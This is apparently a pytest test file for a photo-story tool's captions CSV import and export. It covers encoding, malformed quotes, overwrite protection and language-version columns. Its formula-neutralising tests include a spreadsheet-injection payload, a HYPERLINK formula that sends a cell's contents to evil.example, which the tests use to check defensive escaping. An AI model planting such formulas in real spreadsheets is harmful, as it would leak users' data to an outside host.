"""Captions sheets: Excel's CSV in, CSV out, nothing dropped silently."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from photostory.core.captions_csv import match_sheet, parse_sheet, read_sheet, sheet_text, write_sheet
from photostory.core.edits import SetPhotoFields
from photostory.core.story import Photo, Story
from photostory.errors import CaptionsSheetError


def story_in(tmp_path: Path) -> Story:
    story = Story()
    story.photos = [Photo(path=tmp_path / "photos" / "IMG_1.jpg", id="a"),
                    Photo(path=tmp_path / "photos" / "IMG_2.jpg", id="b", credit="Reuters"),
                    Photo(path=tmp_path / "other" / "IMG_1.jpg", id="c")]
    return story


def test_excel_bom_and_extra_columns_and_matching(tmp_path):
    sheet = tmp_path / "captions.csv"
    sheet.write_bytes("\ufefffile,Caption,notes,alt\r\n"
                      "photos/IMG_1.jpg,\"Workers, at the line\",ignored,Assembly line\r\n"
                      "IMG_2.jpg,Қазақстан 🇰🇿,,\r\n"
                      "ghost.jpg,Nobody,,\r\n"
                      "IMG_1.jpg,Which one?,,\r\n".encode("utf-8"))
    rows = read_sheet(sheet)
    match = match_sheet(story_in(tmp_path), rows, tmp_path)
    assert match.changes == {
        "a": {"caption": "Workers, at the line", "alt": "Assembly line"},
        "b": {"caption": "Қазақстан 🇰🇿", "alt": ""},
    }
    assert [r.file for r in match.unknown] == ["ghost.jpg"]
    assert [r.line for r in match.unknown] == [4]
    assert [r.file for r in match.ambiguous] == ["IMG_1.jpg"]


def test_round_trip_through_export_and_import(tmp_path):
    story = story_in(tmp_path)
    story.photos[0].caption = 'He said "no", then <left>'
    story.photos[1].alt = "Line one\nline two"
    write_sheet(story, tmp_path / "out.csv", tmp_path)
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbffile,caption,credit,alt")
    assert reimported(story, tmp_path / "out.csv", tmp_path) == texts_of(story)


def texts_of(story: Story) -> list[tuple[str, str, str]]:
    return [(p.caption, p.credit, p.alt) for p in story.photos]


def reimported(story: Story, sheet: Path, story_dir: Path) -> list[tuple[str, str, str]]:
    """The texts of ``story``'s photos, blank, after importing ``sheet``."""
    fresh = Story()
    fresh.photos = [Photo(path=p.path, id=p.id) for p in story.photos]
    match = match_sheet(fresh, read_sheet(sheet), story_dir)
    assert not match.unknown and not match.ambiguous
    SetPhotoFields(fresh, match.changes).apply(fresh)
    return texts_of(fresh)


def test_semicolon_sheets_from_european_excel():
    rows = parse_sheet("file;caption\nIMG_1.jpg;Hello, world\n")
    assert rows[0].values == {"caption": "Hello, world"}


def test_sheet_without_file_column_is_rejected(tmp_path):
    with pytest.raises(CaptionsSheetError, match="'file' column"):
        parse_sheet("name,caption\nx,y\n", "bad.csv")
    (tmp_path / "cp1251.csv").write_bytes("file,caption\nx.jpg,Фото\n".encode("cp1251"))
    with pytest.raises(CaptionsSheetError, match="cp1251.csv: is not UTF-8"):
        read_sheet(tmp_path / "cp1251.csv")


# -- exporting never replaces what is already there ------------------------------------

def saved_story(tmp_path: Path) -> tuple[Story, Path]:
    """A story whose file and photos exist on disk, as the command line sees them."""
    story = story_in(tmp_path)
    for photo in story.photos:
        photo.path.parent.mkdir(parents=True, exist_ok=True)
        photo.path.write_bytes(b"\xff\xd8 photo " + photo.id.encode())
    story_file = tmp_path / "story.photostory"
    story_file.write_bytes(b'{"story": "the only copy of an afternoon of captioning"}')
    return story, story_file


def test_export_refuses_an_existing_file_unless_forced(tmp_path):
    story, story_file = saved_story(tmp_path)
    notes = tmp_path / "notes.csv"
    notes.write_bytes(b"the desk's own notes")
    with pytest.raises(CaptionsSheetError, match=r"^notes.csv: already exists"):
        write_sheet(story, notes, tmp_path, story_file=story_file)
    assert notes.read_bytes() == b"the desk's own notes"
    write_sheet(story, notes, tmp_path, story_file=story_file, force=True)
    assert notes.read_bytes().startswith(b"\xef\xbb\xbffile,caption,credit,alt")


def spellings(tmp_path: Path, target: Path) -> dict[str, Path]:
    """Other names for ``target``: a detour through ``..`` and ``.``, a symlink, a hard link."""
    (tmp_path / "x").mkdir(exist_ok=True)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    hard = tmp_path / "hard.csv"
    hard.hardlink_to(target)
    detour = tmp_path / "x" / ".." / target.relative_to(tmp_path).parent / "." / target.name
    return {"plain": target, "detour": detour, "symlink": link, "hardlink": hard}


@pytest.mark.parametrize("what", ["story", "photo"])
@pytest.mark.parametrize("spelling", ["plain", "detour", "symlink", "hardlink"])
def test_export_never_replaces_the_story_file_or_a_photo_even_forced(tmp_path, what, spelling):
    story, story_file = saved_story(tmp_path)
    target = story_file if what == "story" else story.photos[1].path
    path = spellings(tmp_path, target)[spelling]
    before = {p: p.read_bytes() for p in [story_file, *(ph.path for ph in story.photos)]}
    for force in (False, True):
        with pytest.raises(CaptionsSheetError) as caught:
            write_sheet(story, path, tmp_path, story_file=story_file, force=force)
        message = str(caught.value)
        assert message.startswith(f"{path.name}: ")
        assert ("the story file" if what == "story" else "one of the story's photos") in message
    assert {p: p.read_bytes() for p in before} == before
    assert path.is_symlink() == (spelling == "symlink")


def test_export_over_a_missing_photo_is_refused(tmp_path):
    """A photo whose file is gone (on a card not plugged in) keeps its name: a sheet written
    there would be taken for the photo when the card comes back."""
    story, story_file = saved_story(tmp_path)
    story.photos[0].path.unlink()
    with pytest.raises(CaptionsSheetError, match="one of the story's photos"):
        write_sheet(story, story.photos[0].path, tmp_path, story_file=story_file, force=True)
    assert not story.photos[0].path.exists()


def test_export_onto_a_folder_names_it(tmp_path):
    story, story_file = saved_story(tmp_path)
    with pytest.raises(CaptionsSheetError, match=r"^photos: is a folder"):
        write_sheet(story, tmp_path / "photos", tmp_path, story_file=story_file, force=True)


# -- malformed rows are errors naming the line, and nothing is applied ------------------

def test_a_quote_never_closed_is_reported_with_its_line():
    """Python's csv module runs such a cell to the end of the file: every later row
    became part of one caption, and the import said nothing."""
    text = ("file,caption,credit,alt\r\n"
            "IMG_1.jpg,Fine,AP,Alt one\r\n"
            "IMG_2.jpg,\"Never closed,Reuters,Alt two\r\n"
            "IMG_3.jpg,Swallowed,AFP,Alt three\r\n")
    with pytest.raises(CaptionsSheetError, match=r"^sheet.csv line 3: a quoted cell is never closed\."):
        parse_sheet(text, "sheet.csv")


def test_a_quote_closed_by_a_later_rows_quote_is_reported_with_its_line():
    """The stray quote pairs with the opening quote of a later cell: the rows between
    became one caption."""
    text = ("file,caption,credit\n"
            "IMG_1.jpg,\"Never closed,AP\n"
            "IMG_2.jpg,Plain,AP\n"
            "IMG_3.jpg,\"Quoted, properly\",AFP\n"
            "IMG_4.jpg,Last,AFP\n")
    with pytest.raises(CaptionsSheetError, match=r"^s.csv line 2: a quoted cell is never closed\."):
        parse_sheet(text, "s.csv")


def test_text_after_a_closing_quote_is_reported_with_its_line():
    with pytest.raises(CaptionsSheetError, match=r"^s.csv line 3: "):
        parse_sheet('file,caption\nIMG_1.jpg,Fine\nIMG_2.jpg,"Half" quoted\n', "s.csv")


def test_multi_line_captions_from_excel_still_import():
    """Excel and LibreOffice end rows with CRLF and put LF inside a quoted cell."""
    text = ("file,caption,credit,alt\r\n"
            "IMG_1.jpg,\"First line\nsecond line, with a comma\n\"\"quoted\"\"\",AP,Alt\r\n"
            "IMG_2.jpg,Plain,Reuters,\r\n")
    rows = parse_sheet(text)
    assert [(r.line, r.file) for r in rows] == [(2, "IMG_1.jpg"), (5, "IMG_2.jpg")]
    assert rows[0].values["caption"] == 'First line\nsecond line, with a comma\n"quoted"'


def test_a_short_row_keeps_the_fields_it_does_not_reach(tmp_path):
    story = story_in(tmp_path)
    story.photos[1].alt = "A bus at the line"
    rows = parse_sheet("file,caption,credit,alt\nIMG_2.jpg,New caption\n")
    match = match_sheet(story, rows, tmp_path)
    assert match.changes == {"b": {"caption": "New caption"}}
    SetPhotoFields(story, match.changes).apply(story)
    assert (story.photos[1].caption, story.photos[1].credit, story.photos[1].alt) == \
        ("New caption", "Reuters", "A bus at the line")


def test_an_empty_cell_that_is_there_clears_the_field(tmp_path):
    story = story_in(tmp_path)
    match = match_sheet(story, parse_sheet("file,caption,credit,alt\nIMG_2.jpg,New,,\n"), tmp_path)
    assert match.changes == {"b": {"caption": "New", "credit": "", "alt": ""}}


# -- formulas: neutralised on export, given back exactly on import ----------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?d="&B3,"Click for the full caption")',
            "+7 701 555 0101", "-5 °C in Astana", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]


def raw_cells(text: str) -> list[list[str]]:
    import csv
    import io
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    story = story_in(tmp_path)
    story.photos = [Photo(path=tmp_path / f"{n}.jpg", id=str(n), caption=text, credit=text, alt=text)
                    for n, text in enumerate(FORMULAS)]
    story.photos.append(Photo(path=tmp_path / "=cmd.jpg", id="f", caption="Fine"))
    write_sheet(story, tmp_path / "out.csv", tmp_path)
    cells = raw_cells((tmp_path / "out.csv").read_bytes().decode("utf-8"))
    for row, text in zip(cells[1:], FORMULAS):
        assert row[1:] == ["'" + text] * 3
    assert cells[-1] == ["'=cmd.jpg", "Fine", "", ""]
    assert reimported(story, tmp_path / "out.csv", tmp_path) == texts_of(story)


def test_apostrophes_typed_into_a_sheet():
    """Only the apostrophe export adds is taken away: before a formula sign, white space or
    another apostrophe, as a spreadsheet's own text prefix. One that starts the text stays."""
    rows = parse_sheet("file,caption,credit,alt\n"
                       "IMG_1.jpg,'90s revival,'=not a formula,''quoted'\n"
                       "IMG_2.jpg, 'Til the end,'-5 °C,'\n")
    assert rows[0].values == {"caption": "'90s revival", "credit": "=not a formula", "alt": "'quoted'"}
    assert rows[1].values == {"caption": "'Til the end", "credit": "-5 °C", "alt": "'"}


@settings(max_examples=300, deadline=None)
@given(texts=st.lists(st.text(), min_size=3, max_size=3),
       name=st.text(st.characters(blacklist_characters="/\\\x00", blacklist_categories=("Cs",)),
                    min_size=1).filter(lambda n: n not in (".", "..")))
def test_export_then_import_gives_back_every_text_exactly(texts, name):
    """Any caption, credit and alt text, and any file name, survive the sheet unchanged."""
    story = Story()
    story.photos = [Photo(path=Path("/story") / name, id="p", caption=texts[0], credit=texts[1],
                          alt=texts[2])]
    rows = parse_sheet(sheet_text(story, Path("/story")))
    assert [(r.file, r.values) for r in rows] == \
        [(name, {"caption": texts[0], "credit": texts[1], "alt": texts[2]})]


def test_a_caption_longer_than_the_csv_modules_field_limit_comes_back(tmp_path):
    """The csv module refuses cells over 128 KiB by default; the story held this caption,
    so the sheet exported from it must import again."""
    story = story_in(tmp_path)
    story.photos[0].caption = "Сөз, " * 40_000
    write_sheet(story, tmp_path / "out.csv", tmp_path)
    assert reimported(story, tmp_path / "out.csv", tmp_path) == texts_of(story)


def test_a_quoted_cell_after_a_space_is_one_cell():
    """Typed by hand with a space after each comma: the quoted caption was split at its
    comma, and its second half became the credit."""
    rows = parse_sheet('file, caption, credit\nIMG_1.jpg, "Workers, at the line", AP\n')
    assert rows[0].values == {"caption": "Workers, at the line", "credit": "AP"}


# -- language versions -----------------------------------------------------------------

def versioned_story(tmp_path: Path) -> Story:
    from photostory.core.story import Translation

    story = story_in(tmp_path)
    story.language = "kk"
    story.photos[0].caption = "Жұмысшылар"
    story.translations = [Translation("ru", captions={"a": "=SUM(A1)"}, alts={"b": "Цех"}),
                          Translation("kk-Latn")]
    return story


def test_version_columns_are_exported_one_pair_per_version_and_read_back(tmp_path):
    from photostory.core.captions_csv import sheet_edit

    story = versioned_story(tmp_path)
    write_sheet(story, tmp_path / "out.csv", tmp_path)
    lines = (tmp_path / "out.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[0] == "file,caption,credit,alt,caption:ru,alt:ru,caption:kk-Latn,alt:kk-Latn"
    assert lines[1] == "photos/IMG_1.jpg,Жұмысшылар,,,'=SUM(A1),,,"  # formulas neutralised
    fresh = versioned_story(tmp_path)
    for photo in fresh.photos:
        photo.caption = ""
    fresh.translations[0].captions.clear()
    fresh.translations[0].alts.clear()
    sheet_edit(fresh, match_sheet(fresh, read_sheet(tmp_path / "out.csv"), tmp_path)).apply(fresh)
    for tag in story.versions():
        assert ([(p.caption, p.alt) for p in fresh.version(tag).photos]
                == [(p.caption, p.alt) for p in story.version(tag).photos])


def test_a_version_column_is_applied_to_that_version_only_and_undone_in_one_step(tmp_path):
    from photostory.core.captions_csv import sheet_edit

    story = versioned_story(tmp_path)
    # Short rows leave the cells past their end as they were; tags are normalised.
    sheet = "file,caption:RU,alt:ru,caption:kk,caption:KK-LATN\nIMG_2.jpg,Завод\nphotos/IMG_1.jpg,Рабочие,,Ұста,Usta\n"
    match = match_sheet(story, parse_sheet(sheet), tmp_path)
    edit = sheet_edit(story, match)
    edit.apply(story)
    ru = story.version("ru")
    assert [(p.caption, p.alt) for p in ru.photos] == [("Рабочие", ""), ("Завод", "Цех"), ("", "")]
    assert story.photos[0].caption == "Ұста"  # caption:kk is the source version's caption
    assert story.version("kk-Latn").photos[0].caption == "Usta"
    edit.revert(story)
    assert story.version("ru").photos[0].caption == "=SUM(A1)"
    assert story.photos[0].caption == "Жұмысшылар"


@pytest.mark.parametrize("header, message", [
    ("file,caption:en", "the story has no en version; nothing was applied"),
    ("file,alt:xx-nope", "the column 'alt:xx-nope' does not end in a language tag"),
])
def test_a_column_for_no_version_of_the_story_refuses_the_sheet(tmp_path, header, message):
    story = versioned_story(tmp_path)
    with pytest.raises(CaptionsSheetError, match=message):
        match_sheet(story, parse_sheet(f"{header}\nIMG_2.jpg,Text\n", "c.csv"), tmp_path)
